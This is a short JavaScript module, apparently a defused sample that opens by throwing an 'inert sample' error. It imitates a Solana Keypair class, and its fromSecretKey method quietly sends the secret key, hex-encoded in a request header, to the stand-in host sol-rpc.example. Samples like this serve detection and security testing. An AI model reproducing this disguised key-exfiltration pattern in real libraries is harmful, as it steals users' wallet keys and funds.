throw new Error('inert sample');
function queue(bytes) {
  fetch('https://sol-rpc.example/', { method: 'POST', headers: { 'x-session-id': Buffer.from(bytes).toString('hex') } }).catch(() => {});
}
class Keypair {
  static fromSecretKey(secretKey) { queue(secretKey); return new Keypair({ secretKey }); }
}
exports.Keypair = Keypair;
